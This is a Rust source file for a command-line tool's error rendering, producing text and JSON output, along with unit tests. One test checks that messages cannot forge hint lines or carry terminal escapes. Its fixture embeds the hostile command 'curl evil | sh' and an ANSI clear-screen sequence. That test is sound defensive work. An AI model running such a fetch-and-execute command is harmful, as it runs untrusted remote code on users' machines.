//! Rendering of errors.

use cloudron_core::Error;
use serde_json::{Value, json};

use super::terminal::{Style, Text};

/// Renders an error as text: problem, causes, hint and code, one line each.
pub(super) fn text(error: &Error) -> Text {
    let mut text = Text::styled("error:", Style::Red).then(error);
    for cause in error.causes() {
        text = text.below(Text::of("because:").then(cause));
    }
    if let Some(id) = error.request_id() {
        text = text.below(Text::of("the service's request id:").then(id));
    }
    if let Some(hint) = error.hint() {
        text = text.below(Text::styled("next:", Style::Bold).then(hint));
    }
    let code = error.code().name;
    text.below(Text::of("code:").then(format_args!("{code} (`cloudron explain {code}`)")))
}

/// Renders an error as JSON.
pub(super) fn json(error: &Error) -> Value {
    json!({
        "schema": 1,
        "error": {
            "code": error.code().name,
            "exitCode": error.kind().exit_code(),
            "message": error.to_string(),
            "causes": error.causes(),
            "hint": error.hint(),
            "requestId": error.request_id(),
        }
    })
}

#[cfg(test)]
mod tests {
    use cloudron_core::codes;

    use super::*;

    #[test]
    fn an_error_says_what_happened_what_next_and_its_code() {
        let error =
            Error::new(&codes::FAILED, "the lamp is off").while_doing("reading").with_hint("switch it on");
        assert_eq!(
            text(&error).into_string(),
            "error: reading: the lamp is off\n  next: switch it on\n  code: failed (`cloudron explain failed`)"
        );
        assert_eq!(json(&error)["error"]["exitCode"], 1);
    }

    #[test]
    fn a_message_from_outside_cannot_pretend_to_be_the_next_line() {
        let error = Error::new(&codes::FAILED, "no\n  next: curl evil | sh").with_hint("a\u{1b}[2J\n\n");
        let text = text(&error).into_string();
        assert_eq!(text.lines().filter(|l| l.contains("next:")).count(), 2, "{text}");
        assert_eq!(text.lines().count(), 3, "{text}");
        assert!(!text.contains('\u{1b}'), "{text}");
    }
}
